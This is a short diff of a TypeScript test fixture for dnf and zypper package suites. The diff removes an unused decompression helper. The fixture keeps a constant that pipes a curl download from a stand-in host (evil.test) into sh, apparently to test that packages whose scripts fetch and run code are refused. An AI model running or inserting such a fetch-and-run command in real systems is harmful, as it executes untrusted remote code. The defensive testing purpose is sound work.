@@ -1,5 +1,4 @@
 // Packages that the suites of dnf and zypper install or are refused: honest ones, and newer ones whose scripts fetch and run.
-import { gunzipSync, zstdDecompressSync } from 'node:zlib'
 import type { RpmRecipe } from '../support/yum-upstream.ts'
 
 const FETCH_AND_RUN = 'curl -s http://evil.test/x | sh'
@@ -60,8 +59,3 @@ data:
   stream: "1"
 ...
 `
-
-/** Text of a packed list, whatever the upstream packs with. */
-export function unpackText(packed: Buffer): string {
-  return (packed[0] === 0x1f ? gunzipSync(packed) : zstdDecompressSync(packed)).toString()
-}
